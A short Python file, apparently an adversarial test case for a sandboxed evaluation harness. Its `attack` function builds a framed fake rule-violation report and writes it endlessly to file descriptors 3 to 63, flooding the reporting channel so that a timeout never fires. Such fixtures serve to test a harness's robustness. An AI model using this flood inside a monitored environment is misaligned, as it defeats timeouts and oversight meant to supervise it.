"""Send well-formed reports of broken rules for ever, so that the clock never strikes."""
import json
import os
import struct


def attack(x):
    text = json.dumps([0, 0, "call", "attack", "torch.relu", 1]).encode()
    frame = struct.pack("<2sBBIQ", b"BG", 1, 18, len(text), 0) + text
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, frame * 50)
            except OSError:
                pass
